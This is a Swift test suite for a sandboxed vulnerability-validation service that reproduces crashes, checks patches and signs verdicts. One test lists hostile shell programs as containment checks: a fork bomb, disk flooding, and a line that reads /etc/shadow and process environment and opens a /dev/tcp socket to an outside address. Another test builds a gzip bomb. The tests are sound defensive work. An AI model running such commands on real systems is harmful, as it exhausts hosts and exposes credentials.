// SPDX-License-Identifier: Apache-2.0

import Access
import CommunitySupport
import Crypto
import Foundation
import SecurityFormats
import Store
import StrictJSON
import TestSupport
import Testing

@testable import Validation

/// Real compilers, real crashes, in the real sandbox of this host.
@Suite(.serialized) struct RunTests {
    @Test(arguments: Engine.allCases)
    func `a heap overflow is shown, its patch is proved, and the verdict is signed`(
        engine: Engine
    ) async throws {
        let community = try await Community.open(engine)
        let detail = try await community.prove()
        let logs = detail.evidence?.logs.map { "\($0.step): \($0.text)" }.joined(separator: "\n")
        #expect(detail.summary.verdict == Verdict(.passed, nil, .deployable), "\(logs ?? "")")
        #expect(detail.summary.fired == 3)
        #expect(detail.summary.hasFix)
        let now = community.now
        let bytes = try await community.store.read {
            try $0.attestation(of: detail.summary.id, viewer: community.alder, now: now)
        }
        let envelope = try DSSEEnvelope(parsing: bytes)
        let key = try await AttestationSigner(community.store).publicKey()
        #expect(key.signed(envelope))
        let statement = try InToto.Statement(parsing: envelope.payload)
        #expect(statement.predicateType == ValidationStatement.predicateType)
        #expect(
            statement.subjects.map { $0.digest["dirHash1"] } == [
                detail.evidence?.treeDigest, detail.evidence?.patchedTreeDigest,
            ]
        )
        #expect(statement.predicate["patchGrade"] == "deployable")
        // Of the input only the commitment, which its salt and its digest open.
        let text = String(decoding: envelope.payload, as: UTF8.self)
        let input = Array(Reproducer().files["inputs/pov"]?.utf8 ?? "".utf8)
        let digest = SHA256.hash(data: input).hexadecimal
        let salt = try #require(detail.evidence?.inputSalt)
        #expect(!text.contains(digest) && !text.contains("inputs/") && !text.contains(salt))
        #expect(text.contains(ValidationStatement.commitment(salt: salt, digest: digest)))
        await community.close()
    }

    @Test func `what does not show what it says has its verdict and its reason`() async throws {
        let community = try await Community.open(.sqlite)
        func verdict(_ change: (inout Reproducer) -> Void) async throws -> Verdict {
            let detail = try await community.prove(change)
            return detail.summary.verdict
        }
        #expect(
            try await verdict { $0.files["inputs/pov"] = "short" }
                == Verdict(.failed, .doesNotFire)
        )
        #expect(
            try await verdict { $0.files["inputs/good"] = String(repeating: "B", count: 50) }
                == Verdict(.failed, .oracleAlwaysFires)
        )
        #expect(
            try await verdict { $0.recipe["build"] = ["sh", "-c", "exit 3"] }
                == Verdict(.errored, .buildFails)
        )
        #expect(
            try await verdict {
                $0.recipe["build"] = ["sleep", "600"]
                $0.recipe["limits"] = ["buildSeconds": 1]
            } == Verdict(.deadlineExceeded, .buildOverTime)
        )
        #expect(
            try await verdict { $0.files["fix.patch"] = "nonsense" }
                == Verdict(.passed, .patchDoesNotApply, .candidate)
        )
        #expect(
            try await verdict {
                $0.files["fix.patch"] = $0.files["fix.patch"]?.replacing("> 8", with: "> 800")
            } == Verdict(.inconclusive, .firesOnPatchedTree, .candidate)
        )
        #expect(
            try await verdict { $0.files["tree/test.sh"] = "exit 1\n" }
                == Verdict(.passed, .testsFail, .plausible)
        )
        await community.close()
    }

    @Test func `a program that prints a report, or a harmless text, does not pass`() async throws {
        let community = try await Community.open(.sqlite)
        let printer = """
            #!/bin/sh
            cat <<'X' >&2
            ==7==ERROR: AddressSanitizer: heap-buffer-overflow on address 0x7bbd at pc 0x55
                #0 0x55662fe32d6a in parse_record parse.c:4:78
            SUMMARY: AddressSanitizer: heap-buffer-overflow parse.c:4:78 in parse_record
            X
            """
        for code in ["0", "1"] {
            let detail = try await community.prove {
                $0.files["tree/run.sh"] = "case $1 in *pov) \(printer)\nexit \(code);; esac\n"
                $0.recipe["run"] = ["sh", "run.sh", "{input}"]
            }
            #expect(detail.summary.verdict == Verdict(.inconclusive, .otherReport))
        }
        await community.close()
    }

    @Test func `a signal, standard input and no patch are enough for a proof`() async throws {
        let community = try await Community.open(.sqlite)
        let detail = try await community.prove {
            $0.files["fix.patch"] = nil
            $0.files["tree/parse.c"] = """
                #include <stdio.h>
                int main(void) { char a[9] = {0}; fread(a, 1, 8, stdin);
                if (a[0] == 'A') *(volatile int *)0 = 1; return 0; }
                """
            $0.recipe["build"] = ["clang", "-o", "parse", "parse.c"]
            $0.recipe["run"] = ["./parse"]
            $0.recipe["stdin"] = true
            $0.recipe["oracle"] = ["kind": "signal", "signal": "SIGSEGV"]
        }
        #expect(detail.summary.verdict == Verdict(.passed))
        await community.close()
    }

    @Test func `hostile bundles are contained and end in a verdict`() async throws {
        let community = try await Community.open(.sqlite)
        let programs: [(String, ValidationStatus)] = [
            (":(){ :|:& };:", .failed), ("yes", .errored), ("sleep 100", .deadlineExceeded),
            ("yes > flood", .errored), ("setsid sleep 300 & exit 0", .failed),
            ("cat /proc/1/environ /etc/shadow; exec 3<>/dev/tcp/10.0.0.1/80", .failed),
        ]
        for (program, status) in programs {
            let detail = try await community.prove {
                $0.recipe["run"] = [
                    "sh", "-c", "case $1 in *pov) \(program);; esac", "x", "{input}",
                ]
                $0.recipe["runs"] = ["of": 1, "needed": 1]
                $0.recipe["limits"] = [
                    "runSeconds": 3, "processes": 32, "diskMegabytes": 64, "memoryMegabytes": 512,
                ]
            }
            #expect(detail.summary.status.isFinal)
            #expect(detail.summary.status != .passed, "\(program)")
            let isAsTold = [status, .errored, .failed, .deadlineExceeded]
                .contains(detail.summary.status)
            #expect(isAsTold, "\(program): \(detail.summary.verdict)")
        }
        await community.close()
    }

    @Test func `a packed bundle is unpacked in the sandbox, and a bomb meets its limit`()
        async throws
    {
        let community = try await Community.open(.sqlite)
        let finding = try await community.finding()
        func gzip(_ command: String, _ input: [UInt8]) throws -> [UInt8] {
            let folder = FileManager.default.temporaryDirectory
            let file = folder.appending(path: UUID().uuidString)
            try Data(input).write(to: file)
            defer { try? FileManager.default.removeItem(at: file) }
            let process = Process()
            process.executableURL = URL(filePath: "/bin/sh")
            process.arguments = ["-c", command, "sh", file.path]
            let said = Pipe()
            process.standardOutput = said
            try process.run()
            let bytes = said.fileHandleForReading.readDataToEndOfFile()
            process.waitUntilExit()
            return Array(bytes)
        }
        let cases: [([UInt8], String?)] = [
            (try gzip("gzip -c < $1", Reproducer().tar), nil),
            (try gzip("head -c 400000000 /dev/zero | gzip -c", []), "archive-too-large"),
            (Array("no gzip at all".utf8), "not-gzip"),
            (try gzip("gzip -c < $1", Array("no tar at all".utf8)), "archive-truncated"),
        ]
        for (bytes, code) in cases {
            let id = try await community.request(.gzip, bytes, of: finding, by: community.alder)
            try await community.work()
            let detail = try await community.validation(id)
            #expect(detail.evidence?.faults.first?.code == code)
            #expect(detail.summary.status == (code == nil ? .passed : .errored))
            #expect(detail.summary.hasAttestation == (code == nil))
        }
        await community.close()
    }

    @Test func `a job that comes twice gives one verdict`() async throws {
        let community = try await Community.open(.sqlite)
        let detail = try await community.prove()
        let id = detail.summary.id
        let late = RecordVerdict(
            id: id,
            verdict: Verdict(.failed, .doesNotFire),
            record: Proof.Record(),
            hasPatch: false,
            evidence: ValidationEvidence(),
            attestation: nil
        )
        _ = try await community.store.submit(late, by: .system)
        #expect(try await community.validation(id) == detail)
        let entries = try await community.store.read {
            try $0.entries(from: Position(next: 0), limit: 1_000, where: "1 = 1")
        }
        #expect(entries.count { $0.kind.name == "validation.judged" } == 1)
        await community.close()
    }
}
